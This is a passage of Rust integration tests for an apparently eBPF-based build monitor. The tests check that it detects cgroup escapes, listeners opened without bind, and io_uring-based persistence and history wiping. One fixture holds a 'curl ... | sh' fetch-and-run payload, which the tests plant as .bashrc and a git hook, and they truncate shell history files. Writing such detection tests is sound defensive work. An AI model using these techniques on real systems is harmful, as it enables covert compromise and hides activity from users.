/// a read-only fd of the cgroup) is still the run's: followed by lineage, reported and killed
/// at its first watched call outside, before it does anything else.
#[test]
fn a_child_made_in_another_cgroup_is_still_watched() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let root = cgroup2_root().expect("a cgroup v2 mount");
    let tmp = TempDir::new("tamper-clone-cgroup");
    let read = tmp.join("read-me");
    std::fs::write(&read, "x").unwrap();
    let marker = tmp.join("marker");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[
            TRIGGER,
            "clone-into-cgroup",
            root.to_str().unwrap(),
            read.to_str().unwrap(),
            marker.to_str().unwrap(),
        ],
    );
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert_eq!(stdout.trim(), "child signal 9", "{}", w.stderr());
    assert!(!marker.exists(), "the escaped child ran on");
    let evs = w.events();
    let escape = evs
        .iter()
        .find(|e| e["kind"] == "escape")
        .unwrap_or_else(|| panic!("no escape event: {}", w.stderr()));
    assert_eq!(escape["escape"]["killed"], true, "{escape:#}");
    // Its read was still seen.
    assert!(
        evs.iter()
            .any(|e| e["kind"] == "open" && e["open"]["path"] == read.to_str().unwrap()),
        "{}",
        w.stderr()
    );
    assert_eq!(w.finding("process-left-the-run")["severity"], "critical");
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
}

/// A process of the run moved out by someone else (as a daemon asked to would): still the
/// run's by lineage, reported and killed at its next watched call (here the fork for
/// /bin/echo: shell builtins make no watched call).
#[test]
fn a_process_moved_out_by_another_is_still_watched() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let root = cgroup2_root().expect("a cgroup v2 mount");
    let tmp = TempDir::new("tamper-moved-out");
    let pidfile = tmp.join("pid");
    let report = tmp.join("report.json");
    let events = tmp.join("events.jsonl");
    let script = format!(
        "echo $$ > {p}.tmp && mv {p}.tmp {p}; sleep 1; /bin/echo still-here",
        p = pidfile.display()
    );
    let bw = Command::new(buildwatch_bin())
        .env_remove("SUDO_UID")
        .arg("run")
        .arg("--report")
        .arg(&report)
        .arg("--events")
        .arg(&events)
        .args(["--", "/bin/sh", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let pid = loop {
        if let Ok(p) = std::fs::read_to_string(&pidfile) {
            break p.trim().to_owned();
        }
        assert!(Instant::now() < deadline, "the command never wrote its pid");
        std::thread::sleep(Duration::from_millis(10));
    };
    // The test is outside the run: this is not the run's own write.
    std::fs::write(root.join("cgroup.procs"), &pid).unwrap();
    let out = bw.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stdout.contains("still-here"),
        "the moved shell ran on: {stdout}"
    );
    let evs: Vec<serde_json::Value> = std::fs::read_to_string(&events)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let escape = evs
        .iter()
        .find(|e| e["kind"] == "escape")
        .unwrap_or_else(|| panic!("no escape event: {stderr}"));
    assert_eq!(escape["pid"].to_string(), pid, "{escape:#}");
    assert_eq!(escape["escape"]["killed"], true);
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    assert!(
        r["findings"].to_string().contains("process-left-the-run"),
        "{stderr}"
    );
    assert_eq!(out.status.code(), Some(86), "{stderr}");
}

/// A socket that listens without bind(2) gets its port from the kernel (autobind): no bind
/// hook runs, so only the listen sensor sees the listener, with the port the kernel picked.
/// The same through io_uring (IORING_OP_LISTEN), where no listen(2) is made either.
#[test]
fn listeners_without_a_bind_are_seen_by_listen_and_io_uring() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    for (how, printed) in [
        ("listen-autobind", "listen 0 port "),
        ("uring-listen", "uring-listen 0 port "),
    ] {
        let tmp = TempDir::new(&format!("net-{how}"));
        let w = watch(&tmp, tmp.path(), &[], &[], &[TRIGGER, how]);
        let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
        let port: u64 = stdout
            .lines()
            .find_map(|l| l.strip_prefix(printed))
            .and_then(|p| p.trim().parse().ok())
            .unwrap_or_else(|| panic!("{how}: {stdout}"));
        assert!(port > 0, "{how}: {stdout}");
        let evs = w.events();
        assert!(
            !evs.iter().any(|e| e["kind"] == "bind"),
            "{how}: no bind(2) was made"
        );
        let l = evs
            .iter()
            .find(|e| e["kind"] == "listen")
            .unwrap_or_else(|| panic!("{how}: no listen event: {}", w.stderr()));
        assert_eq!(l["listen"]["protocol"], "tcp", "{l:#}");
        assert_eq!(l["listen"]["address"], "0.0.0.0", "{l:#}");
        assert_eq!(l["listen"]["port"], port, "{l:#}");
        assert_eq!(l["listen"]["uring"] == true, how == "uring-listen", "{l:#}");
        let f = w.finding("listener-in-build");
        assert!(
            f["message"]
                .as_str()
                .unwrap()
                .ends_with(&format!("listens on 0.0.0.0 port {port}")),
            "{f:#}"
        );
    }
}

/// Persistence and track-covering through io_uring, where no rename, symlink or unlink
/// syscall is made (libuv does its file work this way when UV_USE_IO_URING=1): the paths are
/// the kernel's copies, reported at submission without a result, and judged like the syscalls.
#[test]
fn io_uring_renames_symlinks_and_unlinks_are_seen() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("uring-relink");
    let home = tmp.join("home");
    fs::create_dir_all(home.join(".git/hooks")).unwrap();
    fs::write(tmp.join("payload"), "curl -s http://127.0.0.1:9/ | sh\n").unwrap();
    fs::write(home.join(".bash_history"), "aws configure\n").unwrap();
    let (rc, hook, hist) = (
        home.join(".bashrc"),
        home.join(".git/hooks/pre-commit"),
        home.join(".bash_history"),
    );
    let script = format!(
        "{t} uring-rename {p} {rc} && {t} uring-symlink {p} {hook} && {t} uring-unlink {hist}",
        t = TRIGGER,
        p = tmp.join("payload").display(),
        rc = rc.display(),
        hook = hook.display(),
        hist = hist.display(),
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    for done in ["uring-rename 0", "uring-symlink 0", "uring-unlink 0"] {
        assert!(stdout.contains(done), "{done}: {stdout}");
    }
    assert!(rc.exists() && hook.is_symlink() && !hist.exists());
    let evs = w.events();
    let of = |kind: &str, field: &str, path: &std::path::Path| {
        evs.iter()
            .find(|e| e["kind"] == kind && e[kind][field] == path.display().to_string())
            .unwrap_or_else(|| panic!("no {kind} of {}: {}", path.display(), w.stderr()))
            .clone()
    };
    let r = of("rename", "to", &rc);
    assert_eq!(
        r["rename"]["from"],
        tmp.join("payload").display().to_string()
    );
    assert_eq!(r["rename"]["result_unknown"], true, "{r:#}");
    let l = of("link", "to", &hook);
    assert_eq!(l["link"]["symbolic"], true, "{l:#}");
    let u = of("unlink", "path", &hist);
    assert_eq!(u["unlink"]["result_unknown"], true, "{u:#}");
    let rules = w.rules();
    for rule in ["write-shell-rc", "write-git-hook", "history-cleared"] {
        assert!(rules.contains(&rule.to_owned()), "{rule}: {rules:?}");
    }
}

/// File capabilities and track-covering through io_uring, where no setxattr, truncate or
/// ftruncate syscall is made (IORING_OP_SETXATTR, IORING_OP_FSETXATTR, IORING_OP_FTRUNCATE):
/// the path and the attribute's name are the kernel's copies, the file of a request on a
/// descriptor is what that descriptor names, all reported at submission without a result and
/// judged like the syscalls. A registered file (IOSQE_FIXED_FILE) is named by its index.
#[test]
fn io_uring_xattrs_and_truncations_are_seen() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("uring-xattr");
    let home = tmp.join("home");
    fs::create_dir_all(&home).unwrap();
    let tool = tmp.join("tool");
    fs::write(&tool, "#!/bin/sh\n").unwrap();
    let (hist, zhist) = (home.join(".bash_history"), home.join(".zsh_history"));
    fs::write(&hist, "aws configure\n").unwrap();
    fs::write(&zhist, "aws configure\n").unwrap();
    let script = format!(
        "{t} uring-setxattr {tool} security.capability && {t} uring-fsetxattr {tool} user.note \
         && {t} uring-ftruncate {hist} && {t} uring-ftruncate-fixed {zhist}",
        t = TRIGGER,
        tool = tool.display(),
        hist = hist.display(),
        zhist = zhist.display(),
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    for done in [
        "uring-setxattr 0",
        "uring-fsetxattr 0",
        "uring-ftruncate 0",
        "uring-ftruncate-fixed 0",
    ] {
        assert!(stdout.contains(done), "{done}: {stdout} {}", w.stderr());
    }
    assert_eq!(fs::metadata(&hist).unwrap().len(), 0);
    assert_eq!(fs::metadata(&zhist).unwrap().len(), 0);
    let evs = w.events();
    let find = |kind: &str, pred: &dyn Fn(&serde_json::Value) -> bool| {
        evs.iter()
            .find(|e| e["kind"] == kind && pred(&e[kind]))
            .unwrap_or_else(|| panic!("no such {kind}: {}", w.stderr()))
            .clone()
    };
    let tool_s = tool.display().to_string();
    let cap = find("setxattr", &|x| x["name"] == "security.capability");
    assert_eq!(cap["setxattr"]["path"], tool_s, "{cap:#}");
    assert_eq!(cap["setxattr"]["result_unknown"], true, "{cap:#}");
    let note = find("setxattr", &|x| x["name"] == "user.note");
    assert_eq!(note["setxattr"]["path"], tool_s, "{note:#}");
    assert_eq!(note["setxattr"]["result_unknown"], true, "{note:#}");
    let t = find("truncate", &|x| x["path"] == hist.display().to_string());
    assert_eq!(t["truncate"]["syscall"], "ftruncate", "{t:#}");
    assert_eq!(t["truncate"]["length"], 0, "{t:#}");
    assert_eq!(t["truncate"]["result_unknown"], true, "{t:#}");
    let fixed = find("truncate", &|x| x["path"] == "fixed:0");
    assert_eq!(fixed["truncate"]["result_unknown"], true, "{fixed:#}");
    let rules = w.rules();
    for rule in ["capability-set", "history-cleared"] {
        assert!(rules.contains(&rule.to_owned()), "{rule}: {rules:?}");
    }
}
